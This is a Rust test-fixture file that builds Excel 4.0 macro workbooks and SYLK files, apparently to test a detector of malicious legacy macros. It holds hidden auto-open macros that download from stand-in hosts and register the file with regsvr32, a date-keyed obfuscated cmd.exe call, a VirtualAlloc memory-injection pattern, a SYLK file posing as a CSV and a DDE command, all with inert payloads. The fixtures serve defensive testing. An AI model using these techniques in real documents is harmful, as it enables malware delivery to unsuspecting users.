//! Excel 4.0 macros in XML workbooks ([ECMA-376] part 1, 18.3) and SYLK files. Addresses are inert.

use super::Fixture;
use super::ooxml::Package;

const MACRO_SHEET: &str = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
const WORKSHEET: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet";

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// A sheet of one column: formulas start with `=`, the rest are texts.
fn sheet(root: &str, column: &str, rows: &[(u32, &str)]) -> Vec<u8> {
    let cell = |(row, text): &(u32, &str)| match text.strip_prefix('=') {
        Some(formula) => {
            format!("<row r=\"{row}\"><c r=\"{column}{row}\" t=\"b\"><f>{}</f><v>0</v></c></row>", escape(formula))
        }
        None => format!(
            "<row r=\"{row}\"><c r=\"{column}{row}\" t=\"inlineStr\"><is><t>{}</t></is></c></row>",
            escape(text.trim_start_matches('\''))
        ),
    };
    let rows: String = rows.iter().map(cell).collect();
    format!("<{root} xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>{rows}</sheetData></{root}>")
        .into_bytes()
}

/// A workbook of a macro sheet `Macro1` and a worksheet `Sheet1`.
fn workbook(state: &str, names: &str, macros: &[(u32, &str)], texts: &[(u32, &str)]) -> Vec<u8> {
    let inside = format!(
        "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>\
         <sheet name=\"Macro1\" sheetId=\"2\" state=\"{state}\" r:id=\"rId2\"/></sheets>\
         <definedNames>{names}</definedNames>"
    );
    Package::workbook("application/vnd.ms-excel.sheet.macroEnabled.main+xml", &inside)
        .related(WORKSHEET, "worksheets/sheet1.xml", false)
        .related(MACRO_SHEET, "macrosheets/sheet1.xml", false)
        .part(
            "xl/worksheets/sheet1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            &sheet("worksheet", "B", texts),
        )
        .part(
            "xl/macrosheets/sheet1.xml",
            "application/vnd.ms-excel.macrosheet+xml",
            &sheet("xm:macrosheet", "A", macros),
        )
        .build()
}

const AUTO: &str = "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>";

/// Formulas put together from the cells of another sheet, one address after the other, then a library registered.
fn downloads() -> Vec<u8> {
    let macros = [
        (1, "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)"),
        (2, "=FORMULA(Sheet1!B1&Sheet1!B2&Sheet1!B3,A20)"),
        (3, "=FORMULA(\"=IF(A20<0,\"&MID(Sheet1!B1,2,5)&Sheet1!B2&Sheet1!B4&\",)\",A21)"),
        (4, "=FORMULA(\"=IF(A21<0,CLOSE(0),)\",A22)"),
        (5, "=FORMULA(Sheet1!B5&CHAR(34)&CHAR(41),A23)"),
        (24, "=RETURN()"),
    ];
    let texts = [
        (1, "'=CALL("),
        (2, "\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,"),
        (3, "\"http://one.example/a/\",\"..\\inert.ocx\",0,0)"),
        (4, "\"https://two.example/b/\",\"..\\inert.ocx\",0,0)"),
        (5, "'=EXEC(\"C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\inert.ocx"),
    ];
    workbook("veryHidden", AUTO, &macros, &texts)
}

/// Letters that make a command on the nineteenth of a month only.
fn day_key() -> Vec<u8> {
    let command = "=EXEC(\"cmd.exe /c echo inert\")";
    let letters: Vec<String> = command.chars().map(|c| (u32::from(c) + 19 * 6).to_string()).collect();
    let mut rows = vec![
        (1, "=SET.NAME(\"k\",DAY(NOW()))"),
        (2, "=SET.NAME(\"t\",\"\")"),
        (3, "=FOR.CELL(\"c\",A100:A129,TRUE)"),
        (4, "=SET.NAME(\"t\",t&CHAR(c-k*6))"),
        (5, "=NEXT()"),
        (6, "=FORMULA(t,A8)"),
        (9, "=HALT()"),
    ];
    rows.extend((100..).zip(letters.iter().map(String::as_str)));
    workbook("hidden", AUTO, &rows, &[])
}

fn slk(lines: &[&str]) -> Vec<u8> {
    lines.iter().flat_map(|line| [line.as_bytes(), b"\r\n"].concat()).collect()
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let nineties = [
        (1, "=ECHO(FALSE)"),
        (2, "=WORKBOOK.ACTIVATE(\"Sheet1\")"),
        (3, "=SELECT(\"R1C1\")"),
        (4, "=FORMAT.NUMBER(\"#,##0\")"),
        (5, "=COLUMN.WIDTH(12)"),
        (6, "=ALERT(\"家計簿へようこそ\",2)"),
        (7, "=RETURN()"),
    ];
    let by_hand = [(1, "=EXEC(\"notepad.exe readme.txt\")"), (2, "=RETURN()")];
    let elsewhere = [(1, "=RUN(\"[Other.xls]Macro1!R1C1\")"), (2, "=RETURN()")];
    let registered = [
        (1, "=REGISTER(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"Room\",,1,9)"),
        (2, "=REGISTER(\"Kernel32\",\"RtlCopyMemory\",\"JJCJ\",\"Move\",,1,9)"),
        (3, "=Room(0,4096,4096,64)"),
        (4, "=Move(A3,\"inert\",5)"),
        (5, "=HALT()"),
    ];
    let macro_slk = slk(&[
        "ID;P",
        "O;E",
        "NN;NAuto_open;ER101C1;KOut;F",
        "C;X1;Y101;K0;EEXEC(\"cmd.exe /c \"&R[1]C[1])",
        "C;X2;Y102;K\"echo inert;; exit\"",
        "C;X1;Y103;K0;EHALT()",
        "E",
    ]);
    let dde_slk = slk(&["ID;PWXL;N;E", "C;Y1;X1;K0;E'cmd'|'/c echo inert'!R1C1", "E"]);
    let button_slk = slk(&["ID;PWXL;N;E", "O;E", "C;Y1;X1;K0;EALERT(\"Hello\")", "C;Y2;K0;ERETURN()", "E"]);
    vec![
        Fixture::new("xlsm-xlm-downloads", "請求書.xlsm", downloads()),
        Fixture::new("xlsm-xlm-day-key", "report.xlsm", day_key()),
        Fixture::new("xlsm-xlm-injects", "report.xlsm", workbook("visible", AUTO, &registered, &[])),
        Fixture::new("xlsm-xlm-nineties", "kakeibo.xlsm", workbook("visible", AUTO, &nineties, &[(1, "合計")])),
        Fixture::new("xlsm-xlm-by-hand", "tools.xlsm", workbook("visible", "", &by_hand, &[])),
        Fixture::new("xlsm-xlm-hidden-by-hand", "tools.xlsm", workbook("veryHidden", "", &by_hand, &[])),
        Fixture::new("xlsm-xlm-elsewhere", "tools.xlsm", workbook("visible", AUTO, &elsewhere, &[])),
        Fixture::new("slk-auto-run-acts", "prices.slk", macro_slk.clone()),
        Fixture::new("slk-named-csv", "prices.csv", macro_slk),
        Fixture::new("slk-dde", "prices.slk", dde_slk),
        Fixture::new("slk-macro-sheet", "prices.slk", button_slk),
    ]
}
